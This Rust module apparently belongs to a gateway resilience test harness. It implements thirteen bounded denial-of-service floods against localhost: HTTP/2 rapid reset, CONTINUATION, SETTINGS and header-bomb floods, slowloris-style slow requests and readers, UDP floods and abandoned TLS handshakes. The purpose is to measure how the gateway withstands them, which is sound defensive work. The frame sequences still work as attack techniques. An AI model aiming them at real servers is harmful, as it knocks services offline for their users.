//! The floods. Each has one thread, keeps a bounded number of connections, and pauses between its steps: the
//! subject is the cost of a flood for the gateway, and not how much of the machine attackers can take.

use std::collections::VecDeque;
use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use rustix::net::{AddressFamily, SocketFlags, SocketType};

use super::Ports;
use super::frames::{
    CONTINUATION, COPIES, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    client_hello, frame, get, hello, large_field,
};
use super::origin::FLOOD;

/// Between two steps of a flood.
const STEP: Duration = Duration::from_millis(5);
/// How often a slow client does something.
const SLOW: Duration = Duration::from_secs(4);

pub(super) struct Flood {
    pub(super) name: &'static str,
    /// What is counted.
    pub(super) unit: &'static str,
    pub(super) run: fn(Ports, &AtomicBool, &AtomicU64),
}

pub(super) const FLOODS: [Flood; 13] = [
    Flood { name: "HTTP/2 bomb", unit: "connections", run: bombs },
    Flood { name: "rapid reset", unit: "streams", run: rapid_resets },
    Flood { name: "CONTINUATION", unit: "frames", run: continuations },
    Flood { name: "SETTINGS", unit: "frames", run: settings },
    Flood { name: "PING and empty DATA", unit: "frames", run: empty_frames },
    Flood { name: "slow heads", unit: "connections", run: slow_heads },
    Flood { name: "slow bodies", unit: "connections", run: slow_bodies },
    Flood { name: "held uploads", unit: "connections", run: held_uploads },
    Flood { name: "slow readers, HTTP/1", unit: "connections", run: slow_readers },
    Flood { name: "slow readers, HTTP/2", unit: "connections", run: slow_streams },
    Flood { name: "UDP from many ports", unit: "datagrams", run: datagrams },
    Flood { name: "new connections", unit: "connections", run: new_connections },
    Flood { name: "TLS handshakes left", unit: "connections", run: handshakes },
];

/// An address of a flood: each has some of its own.
fn attacker(flood: u8, number: u64) -> Ipv4Addr {
    Ipv4Addr::new(127, 0, flood, 1 + (number % 200) as u8)
}

/// A connection whose reads and writes do not block.
fn connect(from: Ipv4Addr, port: u16) -> io::Result<TcpStream> {
    let flags = SocketFlags::CLOEXEC;
    let socket: OwnedFd = rustix::net::socket_with(AddressFamily::INET, SocketType::STREAM, flags, None)?;
    rustix::net::bind(&socket, &SocketAddr::from((from, 0)))?;
    // Bytes that slow readers do not read stay with the gateway.
    rustix::net::sockopt::set_socket_recv_buffer_size(&socket, 4_096)?;
    rustix::net::connect(&socket, &SocketAddr::from((Ipv4Addr::LOCALHOST, port)))?;
    let stream = TcpStream::from(socket);
    stream.set_nonblocking(true)?;
    Ok(stream)
}

fn runs(stop: &AtomicBool) -> bool {
    std::thread::sleep(STEP);
    !stop.load(Ordering::Relaxed)
}

/// Whether the peer has ended the connection.
fn is_closed(stream: &mut TcpStream) -> bool {
    match stream.peek(&mut [0]) {
        Ok(0) => true,
        Ok(_) => false,
        Err(error) => error.kind() != io::ErrorKind::WouldBlock,
    }
}

/// Connections that are kept open.
struct OpenConnections<'b> {
    flood: u8,
    port: u16,
    most: usize,
    /// The first bytes of each.
    first: &'b [u8],
    /// The bytes of each every [`SLOW`].
    next: &'b [u8],
}

fn hold(held: &OpenConnections<'_>, stop: &AtomicBool, count: &AtomicU64) {
    let OpenConnections { flood, port, most, first, next } = *held;
    let mut open: VecDeque<(TcpStream, Instant)> = VecDeque::new();
    while runs(stop) {
        if open.len() < most
            && let Ok(mut stream) = connect(attacker(flood, count.load(Ordering::Relaxed)), port)
        {
            // Bytes that are not taken at once are not sent.
            drop(stream.write(first));
            count.fetch_add(1, Ordering::Relaxed);
            open.push_back((stream, Instant::now()));
        }
        let Some((mut stream, since)) = open.pop_front() else { continue };
        if is_closed(&mut stream) {
            continue;
        }
        let is_due = since.elapsed() >= SLOW;
        if is_due && !next.is_empty() {
            drop(stream.write(next));
        }
        open.push_back((stream, if is_due { Instant::now() } else { since }));
    }
}

/// Bytes that are sent step by step, on one connection after the other.
struct Sent<F: Fn(u32) -> Vec<u8>> {
    flood: u8,
    port: u16,
    /// The number of events in a step.
    each: u64,
    /// The bytes of a step, by its number on its connection.
    step: F,
}

fn send<F: Fn(u32) -> Vec<u8>>(sent: &Sent<F>, stop: &AtomicBool, count: &AtomicU64) {
    let Sent { flood, port, each, step } = sent;
    let mut connections = 0;
    while runs(stop) {
        connections += 1;
        let Ok(mut stream) = connect(attacker(*flood, connections), *port) else { continue };
        let mut number = 0;
        let mut written = stream.write(&hello(65_535));
        while written.is_ok() && runs(stop) && number < 1 << 20 {
            let bytes = step(number);
            let mut at = 0;
            while at < bytes.len() && !stop.load(Ordering::Relaxed) {
                written = stream.write(&bytes[at..]);
                match &written {
                    Ok(len) => at += len,
                    Err(error) if error.kind() == io::ErrorKind::WouldBlock => std::thread::sleep(STEP),
                    Err(_) => break,
                }
                // The gateway's output is read, or it would read no more.
                drop(stream.read(&mut [0; 16_384]));
            }
            written = if at == bytes.len() { Ok(at) } else { written };
            if stream.read(&mut [0; 16_384]).is_ok_and(|read| read == 0) {
                break;
            }
            number += 1;
            count.fetch_add(*each, Ordering::Relaxed);
        }
    }
}

fn bombs(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let mut first = hello(0);
    first.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &[get("/"), large_field()].concat()));
    let mut progress = Vec::new();
    for number in 0..128 {
        let stream = 2 * number + 1;
        if number > 0 {
            first.extend(frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                stream,
                &[&get("/")[..], &COPIES].concat(),
            ));
        }
        progress.extend(frame(WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes()));
    }
    hold(
        &OpenConnections { flood: 1, port: ports.http, most: 100, first: &first, next: &progress },
        stop,
        count,
    );
}

fn rapid_resets(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let step = |number: u32| {
        let streams = (0..50).map(|n| 2 * (50 * number + n) + 1);
        let each = |stream| {
            let head = frame(HEADERS, END_STREAM | END_HEADERS, stream, &get("/question"));
            [head, frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat()
        };
        streams.flat_map(each).collect()
    };
    send(&Sent { flood: 2, port: ports.http, each: 50, step }, stop, count);
}

fn continuations(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let step = |number| {
        let begin = if number == 0 { frame(HEADERS, END_STREAM, 1, &get("/")) } else { Vec::new() };
        [begin, frame(CONTINUATION, 0, 1, &[0]).repeat(100)].concat()
    };
    send(&Sent { flood: 3, port: ports.http, each: 100, step }, stop, count);
}

fn settings(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let entries = [0, 4, 0, 0, 0xff, 0xff].repeat(2_730);
    let step = |number| match number {
        0 => (0..100).flat_map(|n| frame(HEADERS, END_HEADERS, 2 * n + 1, &get("/"))).collect(),
        _ => frame(SETTINGS, 0, 0, &entries),
    };
    send(&Sent { flood: 4, port: ports.http, each: 1, step }, stop, count);
}

fn empty_frames(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let step = |number| {
        let begin = if number == 0 { frame(HEADERS, END_HEADERS, 1, &get("/")) } else { Vec::new() };
        let pair = [frame(PING, 0, 0, &[0; 8]), frame(DATA, 0, 1, &[])].concat();
        [begin, pair.repeat(50)].concat()
    };
    send(&Sent { flood: 5, port: ports.http, each: 100, step }, stop, count);
}

fn slow_heads(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let head = b"GET / HTTP/1.1\r\nHost: a\r\nX: ";
    hold(&OpenConnections { flood: 6, port: ports.http, most: 300, first: head, next: b"x" }, stop, count);
}

fn slow_bodies(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let head = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
    hold(&OpenConnections { flood: 7, port: ports.http, most: 200, first: head, next: b"x" }, stop, count);
}

fn held_uploads(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let head = "POST /held HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 60000000\r\n\r\n";
    let mut first = head.as_bytes().to_vec();
    first.resize(1 << 20, b'x');
    hold(
        &OpenConnections { flood: 8, port: ports.http, most: 20, first: &first, next: &[b'x'; 64 * 1024] },
        stop,
        count,
    );
}

fn slow_readers(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    hold(
        &OpenConnections {
            flood: 9,
            port: ports.http,
            most: 60,
            first: b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n",
            next: b"",
        },
        stop,
        count,
    );
}

fn slow_streams(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let mut first = hello(0);
    for number in 0..20 {
        first.extend(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, &get("/large")));
    }
    hold(
        &OpenConnections {
            flood: 10,
            port: ports.http,
            most: 10,
            first: &first,
            next: &frame(PING, 0, 0, &[0; 8]),
        },
        stop,
        count,
    );
}

fn datagrams(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    while runs(stop) {
        for _ in 0..10 {
            let from = attacker(11, count.fetch_add(1, Ordering::Relaxed));
            // Its own port for each, as if the sender were made up.
            let Ok(socket) = UdpSocket::bind((from, 0)) else { continue };
            drop(socket.send_to(&[FLOOD], (Ipv4Addr::LOCALHOST, ports.udp)));
        }
    }
}

fn new_connections(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    while runs(stop) {
        for _ in 0..3 {
            drop(connect(attacker(12, count.fetch_add(1, Ordering::Relaxed)), ports.http));
        }
    }
}

fn handshakes(ports: Ports, stop: &AtomicBool, count: &AtomicU64) {
    let hello = client_hello();
    let mut open = VecDeque::new();
    while runs(stop) {
        let number = count.fetch_add(1, Ordering::Relaxed);
        let Ok(mut stream) = connect(attacker(13, number), ports.tls) else { continue };
        // Each second one stops within its first message.
        let bytes = if number.is_multiple_of(2) { &hello[..] } else { &hello[..hello.len() / 2] };
        drop(stream.write(bytes));
        open.push_back(stream);
        if open.len() > 200 {
            open.pop_front();
        }
    }
}
